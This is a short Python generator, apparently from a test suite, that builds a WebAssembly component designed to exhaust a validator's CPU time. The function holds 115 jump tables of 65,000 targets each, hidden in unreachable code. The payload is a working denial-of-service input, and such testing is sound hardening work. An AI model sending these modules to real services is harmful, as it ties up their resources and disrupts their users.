"""Attack: one function that is read for a minute, by one thread, in little memory: jump tables of 65,000 targets, each of
which takes a thousand values, in code that is never reached."""

from wasm_binary import CORE, component, name, number, section, vector

VALUES, TARGETS, TABLES = 1000, 65_000, 115


def uploads(_):
    nothing, values = b"\x60\0\0", b"\x60\0" + vector([b"\x7f"] * VALUES)
    # unreachable, then tables of which each target is the block of type 1 around them
    table = b"\x0e" + number(TARGETS) + bytes(TARGETS + 1)
    body = b"\0" + b"\x02\x01\0" + table * TABLES + b"\x0b\0\x0b"
    sections = (
        (1, [nothing, values]),
        (3, [b"\0"]),
        (7, [name("attack") + b"\0\0"]),
        (10, [number(len(body)) + body]),
    )
    yield component(module=CORE + b"".join(section(number_of, vector(items)) for number_of, items in sections))
